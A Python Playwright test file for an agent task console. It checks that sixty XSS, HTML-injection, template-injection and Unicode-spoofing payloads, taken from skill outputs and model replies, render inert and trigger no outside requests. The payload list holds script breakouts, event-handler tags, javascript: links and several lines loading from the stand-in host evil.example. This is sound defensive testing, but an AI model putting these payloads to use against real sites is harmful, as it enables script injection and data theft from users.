"""What strangers and models wrote does nothing in a browser: sixty payloads, in texts and files that pages show."""

from __future__ import annotations

import json
from collections.abc import Generator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.support.fleet import lay_out
from tests.support.providers import Received, Reply
from tests.support.screens import WAIT_MS, Place, open_place, serve_place, watched
from tests.support.walk import VARIABLES, serving_models, walk_settings

CALL = "alert(1)"
EVENTS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
TAGS = ("img src=x", "svg", "input", "body", "details open", "svg><animate", "video src=x", "iframe", "marquee")
PAYLOADS = (
    *(f"<{tag} {event}={CALL}>" for tag in TAGS for event in EVENTS[:5]),
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f'"><script src=https://evil.example/{CALL}></script>',
    f"' autofocus onfocus={CALL} x='",
    f"[click](javascript:{CALL})",
    f"[x](data:text/html,<script>{CALL}</script>)",
    "![x](https://evil.example/p.png)",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button autofocus>send</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    f'<svg><use href="data:image/svg+xml,<svg id=x><script>{CALL}</script></svg>#x"/></svg>',
    f'<math><mtext><mglyph><style><img src onerror="{CALL}"></style></mglyph></mtext></math>',
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "</textarea></pre></title><iframe src=//evil.example></iframe>",
    "\u202etxt.exe \u2066hidden\u2069 \U000e0041",
)
STRANGE = """
import json
from fireswarm.contracts.skills.artifact import Artifact
from fireswarm.contracts.skills.skill import PlannedTask, SkillResult, SkillState

KINDS = ("x.md", "x.svg", "x.html", "x.csv", "x.json", "x.diff", "x.txt")

def run(request):
    payloads = request.context.get("payloads")
    if payloads is None:
        text = request.objective
        files = tuple(Artifact(type="report", name=name, value=json.dumps({text: [text]}) if name == "x.json" else text)
                      for name in KINDS)
        return SkillResult(summary=text, insights=(text,), artifacts=files)
    if request.children:
        return SkillResult(summary="read")
    tasks = [PlannedTask(key=f"p{number}", assigned_to="memory", objective=each, skill="strange")
             for number, each in enumerate(payloads)]
    tasks.append(PlannedTask(key="stuck", assigned_to="memory", objective=" ".join(payloads)[:900], skill="fail"))
    return SkillResult(state=SkillState.DELEGATING, summary=" ".join(payloads)[:900], tasks=tuple(tasks[:50]))
"""
expect.set_options(timeout=WAIT_MS)
pytestmark = pytest.mark.timeout(4 * WAIT_MS / 1_000)


@pytest.fixture(scope="module")
def place(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Generator[Place]:
    folder: Path = tmp_path_factory.mktemp("place")
    with open_place(folder, "scout", "memory", strange=STRANGE) as opened:
        yield opened


def test_words_of_strangers_do_nothing(place: Place, browser: Browser) -> None:
    halves = [PAYLOADS[:32], PAYLOADS[32:]]
    roots = [
        place.submit(
            "read these", "scout", "strange", "--context", f"payloads={json.dumps(half)}", "--again", str(number)
        )
        for number, half in enumerate(halves)
    ]
    with watched(place, browser) as console:
        page = console.page
        shown: set[str] = set()
        for root in roots:
            console.open(f"tasks/{root}")
            expect(page.locator("#result").get_by_text("read", exact=True)).to_be_visible()
            links = page.locator("ol.tree a").evaluate_all("all => all.map(each => each.getAttribute('href'))")
            shown |= {str(link) for link in links}
        for link in (
            "",
            "inbox",
            "tasks",
            "mail",
            "memory",
            "agents",
            "spend",
            "store/agent_tasks",
            "store/agent_runs",
            "jump?q=alert",
        ):
            console.open(link)
        assert len(shown) >= len(PAYLOADS)
        for number, link in enumerate(sorted(shown)):
            page.goto(console.address.removesuffix("/ui/") + link)
            files = page.locator("ul.files li > a").evaluate_all("all => all.map(each => each.href)")
            if files:
                page.goto(str(files[number % len(files)]))
        assert console.faults == []
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/x.png>')")
        expect(page.locator("img[src^='https://evil']")).to_be_attached()
        assert console.faults, "a picture of another host would have been noticed"


def plan_strange_words(request: Received) -> Reply:
    """Answer with half of the payloads, each a paragraph of the text and the objective of a planned task."""
    half = PAYLOADS[:32] if "the first half" in json.dumps(request.body["messages"]) else PAYLOADS[32:]
    tasks = [{"key": f"p{at}", "assigned_to": "scout", "objective": each} for at, each in enumerate(half)]
    return Reply("\n\n".join(half), calls=(("finish", {"answer": half[0], "result": {"tasks": tasks}}),))


def test_words_of_a_model_do_nothing_in_conversations_plans_and_forms(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in VARIABLES.items():
        monkeypatch.setenv(name, value)
    with serving_models(plan_strange_words) as url:
        lay_out(tmp_path, {}, settings=walk_settings(url))
        with serve_place(tmp_path, "architect") as place, watched(place, browser) as console:
            page, shown = console.page, ""
            for half in ("the first half", "the second half"):
                task = place.submit_to_model(f"plan {half}", "architect", "--review-plan")
                console.open(f"tasks/{task}")
                expect(page.get_by_role("link", name="See its graph, or change it")).to_be_visible()
                for path in ("", "/plan", "/conversation", "/fork?before=1"):
                    console.open(f"tasks/{task}{path}")
                    shown += page.locator("main").inner_text()
                run = page.goto(f"{console.address}tasks/{task}")
                assert run is not None
                page.get_by_role("link", name="Run 1").click()
                for details in page.locator("details").all():
                    details.locator("summary").click()
                console.open(f"tasks/{task}/plan")
                page.get_by_role("button", name="Check and draw it").click()
                expect(page.locator("g.box")).to_have_count(32 if half == "the first half" else len(PAYLOADS) - 32)
            for field in ("expected_outcome", "path", "context", "depends_on"):
                console.open("new")
                page.locator("#more summary").click()
                page.get_by_label("What is to be done").fill(" ".join(PAYLOADS)[:3_000])
                page.locator(f"[name={field}]").fill(PAYLOADS[45] + PAYLOADS[-2])
                page.locator("[name=skill]").fill(PAYLOADS[0])
                page.get_by_role("button", name="Submit").click()
                expect(page.get_by_role("alert")).to_be_visible()
            for path in ("", "inbox", "tasks", "runs", "spend", "store/agent_runs", "jump?q=alert"):
                console.open(path)
            assert console.faults == []
            assert sum(each.split("\n")[0][:40] in shown for each in PAYLOADS) > len(PAYLOADS) // 2
